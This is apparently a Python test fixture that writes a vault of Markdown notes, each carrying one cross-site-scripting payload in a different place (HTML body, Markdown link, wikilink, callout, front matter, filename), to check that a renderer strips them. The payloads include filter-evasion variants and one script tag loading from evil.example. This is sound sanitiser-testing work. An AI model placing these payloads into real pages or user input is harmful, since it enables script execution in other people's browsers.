"""Cross-site-scripting vectors, and a vault that plants each in a note.

Each :class:`Vector` is a payload and the place a contributor could put it:
raw HTML in the body, a Markdown link, a wikilink's label or target, a
callout's title or type, the front-matter title, an alias, the video id, a
heading, a timestamp tag, or the file name itself.  Every payload would
call ``alert`` if it ran, so a headless browser with a dialog listener
sees any that survive; the static check looks for event-handler
attributes and script URLs.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Vector:
    place: str
    payload: str


RAW = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="x" ONERROR="alert(1)"/>',
    "<img src=x onerror\n=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">a1</a>',
    '<a href="JaVaScRiPt:alert(1)">a2</a>',
    '<a href="&#106;avascript:alert(1)">a3</a>',
    '<a href="java\tscript:alert(1)">a4</a>',
    '<a href=" javascript:alert(1)">a5</a>',
    '<a href="vbscript:msgbox(1)">a6</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a7</a>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    '<base href="javascript:alert(1)//">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--<script>-->alert(1)<!--</script>-->",
    '<a class="yt-timestamp" data-t="00:01:00" onclick="alert(1)">[00:01:00]</a>',
    '<a class="yt-timestamp" data-t="00:01:00" href="javascript:alert(1)">[00:01:00]</a>',
    '<a class="yt-timestamp" data-t="00:01:00&quot; onmouseover=&quot;alert(1)">[00:01:00]</a>',
    '<a class="yt-timestamp" data-t=\'"><img src=x onerror=alert(1)>\'>[00:02:00]</a>',
    '<a class="yt-timestamp" data-t="javascript:alert(1)">[00:03:00]</a>',
]
MARKDOWN = [
    "[m1](javascript:alert(1))",
    "[m2](JAVASCRIPT:alert(1))",
    "[m3](javascript&#58;alert(1))",
    "[m4](<javascript:alert(1)>)",
    "[m5](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[m6](https://ok.example "x\\" onmouseover=\\"alert(1)")',
    "![m7](javascript:alert(1))",
    "[m8][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[m9](\tjavascript:alert(1))",
]
ELSEWHERE = [
    Vector("label", "<img src=x onerror=alert(1)>"),
    Vector("label", "[l2](javascript:alert(1))"),
    Vector("target", "<svg onload=alert(1)>"),
    Vector("target", "javascript:alert(1)"),
    Vector("embed", "<img src=x onerror=alert(1)>"),
    Vector("callout-title", "<img src=x onerror=alert(1)>"),
    Vector("callout-title", "[c2](javascript:alert(1))"),
    Vector("callout-type", "<svg onload=alert(1)>"),
    Vector("title", "<script>alert(1)</script>"),
    Vector("title", '"><img src=x onerror=alert(1)>'),
    Vector("title", "</title><script>alert(1)</script>"),
    Vector("title", "&lt;img src=x onerror=alert(1)&gt;"),
    Vector("alias", "<svg onload=alert(1)>"),
    Vector("video-id", '"><img src=x onerror=alert(1)>'),
    Vector("video-id", "javascript:alert(1)"),
    Vector("heading", "<img src=x onerror=alert(1)>"),
    Vector("filename", "<img src=x onerror=alert(1)>"),
    Vector("filename", '"><svg onload=alert(1)>'),
]
VECTORS: list[Vector] = (
    [Vector("html", p) for p in RAW] + [Vector("markdown", p) for p in MARKDOWN] + ELSEWHERE
)


def note_for(index: int, vector: Vector) -> tuple[str, str]:
    """The file name and text of the note carrying ``vector``."""
    # A video of its own each, so no two vector notes merge into one page.
    title, video, aliases, body = f"Vector {index}", f"xssvector{index:02d}", "[]", ""
    name = f"vector_{index:02d}"
    p = vector.payload
    match vector.place:
        case "html" | "markdown":
            body = f"Before the payload.\n\n{p}\n\nAfter the payload."
        case "label":
            body = f"A link [[safe_topic | {p}]] here."
        case "target":
            body = f"A link [[{p}]] here."
        case "embed":
            body = f"An embed:\n\n![[{p}]]\n"
        case "callout-title":
            body = f"> [!NOTE] {p}\n> Callout body."
        case "callout-type":
            body = f"> [!{p}] Title\n> Callout body."
        case "title":
            title = p
        case "alias":
            aliases = json.dumps([p])
        case "video-id":
            video = p
            body = 'A moment <a class="yt-timestamp" data-t="00:01:00">[00:01:00]</a> here.'
        case "heading":
            body = f"## {p}\n\nUnder the heading."
        case "filename":
            name = f"{index:02d} {p}"
    front = f"title: {json.dumps(title)}\nvideoId: {json.dumps(video)}\naliases: {aliases}"
    text = f"---\n{front}\n---\nFrom: [[xss]] <br/>\n\n{body or 'Body.'}\n"
    return f"{name}.md", text


def write_vault(root: Path) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for index, vector in enumerate(VECTORS):
        name, text = note_for(index, vector)
        (root / name).write_text(text, encoding="utf-8")
    (root / "xss.md").write_text("---\ntitle: XSS\n---\nThe channel hub.\n", encoding="utf-8")
    return root
